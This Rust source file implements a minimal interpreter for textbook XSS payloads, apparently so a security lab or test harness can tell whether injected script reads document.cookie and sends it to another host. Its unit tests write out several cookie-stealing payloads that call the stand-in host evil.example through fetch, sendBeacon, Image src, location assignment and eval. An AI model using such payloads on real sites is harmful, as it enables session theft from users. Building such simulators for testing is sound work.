//! The few lines of script that textbook payloads consist of: enough to read a cookie and to send it.
//!
//! A program is a row of statements: a call, an assignment, a declaration. An expression is texts, numbers,
//! names and calls, joined by `+`. It knows `document.cookie`, the ways of sending (`fetch`,
//! `navigator.sendBeacon`, an assignment to a `src` or to `location`), dialogs, `eval` and a few functions of
//! texts. It is not JavaScript: no control flow, no objects, no functions of its own. Whatever else a program
//! says ends it, as an error ends a script in a browser; what it did until then is done.

use std::collections::BTreeMap;

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;
use percent_encoding::{NON_ALPHANUMERIC, utf8_percent_encode};

use crate::backend::Sent;

/// Expressions and evaluations inside each other.
const DEPTH_MAX: u32 = 16;
/// Bytes of a text that a script makes.
const TEXT_BYTES_MAX: usize = 16_384;

/// What a script did.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub(super) struct Ran {
    /// What it sent.
    pub(super) sent: Vec<Sent>,
    /// It did something that a page without it would not do.
    pub(super) has_acted: bool,
    /// Steps taken.
    pub(super) steps: u64,
}

/// Runs a script with at most so many steps.
pub(super) fn run(text: &str, cookie: &str, steps_max: u64) -> Ran {
    let mut machine =
        Machine { cookie, variables: BTreeMap::new(), ran: Ran::default(), depth: 0, steps_max };
    let _ = machine.program(text);
    machine.ran
}

struct Machine<'a> {
    cookie: &'a str,
    variables: BTreeMap<String, String>,
    ran: Ran,
    depth: u32,
    steps_max: u64,
}

/// What is left to read of a program.
struct Reader<'a>(&'a str);

impl<'a> Reader<'a> {
    fn skip(&mut self) {
        self.0 = self.0.trim_start();
    }

    fn take(&mut self, sign: &str) -> bool {
        self.skip();
        let rest = self.0.strip_prefix(sign);
        self.0 = rest.unwrap_or(self.0);
        rest.is_some()
    }

    /// A name with its members: `document.cookie`.
    fn path(&mut self) -> Option<&'a str> {
        self.skip();
        let is_part = |sign: char| sign.is_ascii_alphanumeric() || "_$.".contains(sign);
        let end = self.0.find(|sign| !is_part(sign)).unwrap_or(self.0.len());
        let (path, rest) = self.0.split_at_checked(end)?;
        self.0 = rest;
        (!path.is_empty()).then_some(path)
    }

    fn quoted(&mut self) -> Option<String> {
        let mut signs = self.0.char_indices();
        let (_, quote) = signs.next()?;
        let mut text = String::new();
        while let Some((at, sign)) = signs.next() {
            match sign {
                '\\' => text.extend(signs.next().map(|(_, sign)| sign)),
                sign if sign == quote => {
                    self.0 = self.0.get(at + quote.len_utf8()..)?;
                    return Some(text);
                }
                sign => text.push(sign),
            }
        }
        None
    }
}

impl Machine<'_> {
    /// None is an error, which ends the script.
    fn program(&mut self, text: &str) -> Option<()> {
        let text = text.trim().strip_prefix("<!--").unwrap_or(text);
        let mut reader = Reader(text);
        loop {
            while reader.take(";") {}
            reader.skip();
            if reader.0.is_empty() || reader.0.starts_with("//") || reader.0.starts_with("-->") {
                return Some(());
            }
            self.statement(&mut reader)?;
        }
    }

    fn statement(&mut self, reader: &mut Reader<'_>) -> Option<()> {
        self.step()?;
        for word in ["var ", "let ", "const ", "void "] {
            reader.take(word);
        }
        let before = reader.0;
        if let Some(path) = reader.path()
            && !reader.0.trim_start().starts_with("==")
            && path != "new"
            && reader.take("=")
        {
            let value = self.expression(reader)?;
            return self.assign(path, value);
        }
        reader.0 = before;
        let made = self.expression(reader)?;
        // `new Image().src = address`
        if reader.take("=") {
            let value = self.expression(reader)?;
            return if made == "src" { self.send(&value, "") } else { None };
        }
        Some(())
    }

    fn expression(&mut self, reader: &mut Reader<'_>) -> Option<String> {
        self.depth += 1;
        self.step()?;
        let mut text = self.term(reader)?;
        while reader.take("+") {
            text.push_str(&self.term(reader)?);
            if text.len() > TEXT_BYTES_MAX {
                return None;
            }
        }
        self.depth -= 1;
        Some(text)
    }

    fn term(&mut self, reader: &mut Reader<'_>) -> Option<String> {
        self.step()?;
        reader.skip();
        if reader.0.starts_with(['\'', '"', '`']) {
            return reader.quoted();
        }
        if reader.take("(") {
            let inner = self.expression(reader)?;
            return reader.take(")").then_some(inner);
        }
        let path = reader.path()?;
        if path == "new" {
            let _ = reader.path()?;
            if reader.take("(") {
                let _ = self.arguments(reader)?;
            }
            return Some(if reader.take(".src") { "src" } else { "" }.to_owned());
        }
        if reader.take("(") {
            let arguments = self.arguments(reader)?;
            return self.call(path, &arguments);
        }
        if path.chars().all(|sign| sign.is_ascii_digit()) {
            return Some(path.to_owned());
        }
        self.value(path)
    }

    /// The values up to the closing bracket.
    fn arguments(&mut self, reader: &mut Reader<'_>) -> Option<Vec<String>> {
        let mut values = Vec::new();
        while !reader.take(")") {
            values.push(self.expression(reader)?);
            if !reader.take(",") {
                return reader.take(")").then_some(values);
            }
        }
        Some(values)
    }

    fn value(&self, path: &str) -> Option<String> {
        match path.strip_prefix("window.").unwrap_or(path) {
            "document.cookie" => Some(self.cookie.to_owned()),
            "document.domain" | "location.host" => Some("operator.example".to_owned()),
            "location.href" | "document.URL" => Some("https://operator.example/".to_owned()),
            name => self.variables.get(name).cloned(),
        }
    }

    fn assign(&mut self, path: &str, value: String) -> Option<()> {
        match path.strip_prefix("window.").unwrap_or(path) {
            "location" | "location.href" | "document.location" | "document.location.href" => {
                self.send(&value, "")
            }
            path if path.ends_with(".src") => self.send(&value, ""),
            path => {
                self.variables.insert(path.to_owned(), value);
                Some(())
            }
        }
    }

    fn call(&mut self, path: &str, arguments: &[String]) -> Option<String> {
        let first = arguments.first().map(String::as_str).unwrap_or_default();
        let second = arguments.get(1).map(String::as_str).unwrap_or_default();
        match path.strip_prefix("window.").unwrap_or(path) {
            "alert" | "confirm" | "prompt" | "console.log" => self.ran.has_acted = true,
            "fetch" | "navigator.sendBeacon" | "location.replace" | "location.assign" | "open" => {
                self.send(first, second)?;
            }
            "encodeURIComponent" | "escape" => {
                return Some(utf8_percent_encode(first, NON_ALPHANUMERIC).to_string());
            }
            "btoa" => return Some(STANDARD.encode(first)),
            "String" => return Some(first.to_owned()),
            "eval" if self.depth < DEPTH_MAX => {
                self.depth += 1;
                self.program(first)?;
                self.depth -= 1;
            }
            _ => return None,
        }
        Some(String::new())
    }

    /// Sends to the host of an address: what follows the host, then the body.
    fn send(&mut self, address: &str, body: &str) -> Option<()> {
        self.ran.has_acted = true;
        let address = address.trim();
        let rest = address.split_once("//").map(|(_, rest)| rest);
        // Without a host it goes to the page's own.
        let rest = rest.filter(|_| address.starts_with("http") || address.starts_with("//"));
        let Some(rest) = rest else { return Some(()) };
        let end = rest.find(['/', '?', '#']).unwrap_or(rest.len());
        let (host, path) = rest.split_at_checked(end)?;
        let bytes = [path.as_bytes(), body.as_bytes()].concat();
        self.ran.sent.push(Sent { host: host.to_ascii_lowercase(), bytes });
        Some(())
    }

    fn step(&mut self) -> Option<()> {
        self.ran.steps += 1;
        (self.ran.steps <= self.steps_max && self.depth < DEPTH_MAX).then_some(())
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn ran(text: &str) -> Ran {
        run(text, "session=1", 1_000)
    }

    fn sends(text: &str) -> Option<(String, String)> {
        let sent = ran(text).sent.into_iter().next()?;
        Some((sent.host, String::from_utf8(sent.bytes).unwrap()))
    }

    #[test]
    fn the_ways_of_sending_send() {
        let whole = Some(("evil.example".to_owned(), "/?c=session=1".to_owned()));
        for text in [
            "fetch('//evil.example/?c='+document.cookie)",
            "new Image().src='http://evil.example/?c='+document.cookie",
            "new Image().src = `https://EVIL.example/?c=` + document.cookie;",
            "document.location='http://evil.example/?c='+document.cookie",
            "window.location.href = \"http://evil.example/?c=\" + document.cookie",
            "var i=new Image;i.src='//evil.example/?c='+document.cookie",
            "navigator.sendBeacon('//evil.example/','?c='+document.cookie)",
            "eval('fetch(\\'//evil.example/?c=\\'+document.cookie)')",
            "x = document.cookie; fetch('//evil.example/?c=' + x) // done",
        ] {
            let found = sends(text);
            assert_eq!(found, whole, "{text}");
        }
        let encoded = sends("fetch('//evil.example/'+btoa(document.cookie))").unwrap().1;
        assert_eq!(encoded, format!("/{}", STANDARD.encode("session=1")));
    }

    #[test]
    fn what_is_no_script_does_nothing() {
        for text in
            ["", "plain", "hello world", "1 < 2", "nothing(1)", "fetch('//evil.example", "'"]
        {
            assert!(!ran(text).has_acted, "{text}");
        }
        assert!(ran("alert(1)").has_acted && ran("alert(1); nothing(").has_acted);
        assert!(ran("fetch('/here')").sent.is_empty());
    }

    #[test]
    fn scripts_are_bounded() {
        assert!(run(&"alert(1);".repeat(100), "", 50).steps <= 51);
        assert!(!ran(&format!("alert({}1{})", "(".repeat(50), ")".repeat(50))).has_acted);
    }
}
